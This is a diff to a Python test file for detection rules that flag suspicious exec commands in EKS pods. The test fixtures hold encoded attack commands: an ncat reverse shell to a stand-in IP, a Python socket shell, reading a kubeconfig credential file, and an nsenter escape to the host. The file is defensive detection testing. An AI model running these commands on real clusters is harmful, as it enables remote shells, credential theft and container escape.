@@ -502,7 +502,9 @@ cases.append(case("suspicious exec: reverse shell, IMDS, pod identity endpoint, 
     started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec",
             "command=python3&command=-c&command=import+socket%2Csubprocess%2Cos%3Bs%3Dsocket.socket%28%29", user=ALICE),
     started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec", "command=cat&command=%2Froot%2F.kube%2Fconfig", user=ALICE),
-], {"EKS Exec With A Suspicious Command": 8, "EKS Exec Into A System Pod": 1}))
+    started("create", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec", "command=%2Fusr%2Fbin%2Fncat&command=-e&command=%2Fbin%2Fsh&command=198.51.100.9&command=443", user=BOB),
+    started("get", "pods", "kube-system", "aws-node-8kq2z", "exec", "command=nsenter&command=-t&command=1&command=-m&command=-u&command=-i&command=-n&command=sh", user=ALICE),
+], {"EKS Exec With A Suspicious Command": 10, "EKS Exec Into A System Pod": 2}))
 cases.append(case("ordinary exec commands are not suspicious", [
     started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec", "command=ls&command=-la&command=%2Fapp&stdout=true", user=ALICE),
     started("get", "pods", "shop", "web-7c9d8f6b5-x2k4q", "exec", "command=env&stdout=true", user=ALICE),
